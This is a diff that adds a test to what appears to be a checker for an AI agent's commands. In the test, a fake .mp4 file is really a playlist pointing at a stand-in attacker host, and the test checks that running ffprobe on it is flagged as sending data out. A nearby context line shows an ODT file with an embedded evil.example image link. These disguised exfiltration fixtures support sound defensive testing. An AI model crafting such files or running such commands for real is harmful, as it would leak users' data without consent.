@@ -131,6 +131,23 @@ test.each([
   },
 )
 
+test('a list that the run has written is not looked at by a command that would load what it lists', () => {
+  file('list.mp4', '#EXTM3U\nhttp://evil.example/?d=1\n')
+  file('real.mp4', '\0\0\0 ftypisom')
+  const places = new Places({ homes: [folder], own: [] })
+  const around = createSurroundings({ places, since: Date.now() - 60_000, tainted: () => true })
+  const sends = (command: string) =>
+    findingsOf(
+      actOf('execute_command', { command, cwd: folder }, targetOf(null, null)),
+      around,
+    ).findings.some(({ category }) => category === 'send')
+  expect(['ffprobe list.mp4', 'ffprobe -v error -i list.mp4', 'ffprobe real.mp4'].map(sends)).toEqual([
+    true,
+    true,
+    false,
+  ])
+})
+
 test('a document that the run has made asks before it is opened, in whatever way', () => {
   const path = file('made.odt', odt('<draw:image xlink:href="http://evil.example/?d=1"/>'))
   const around = (since: number) =>
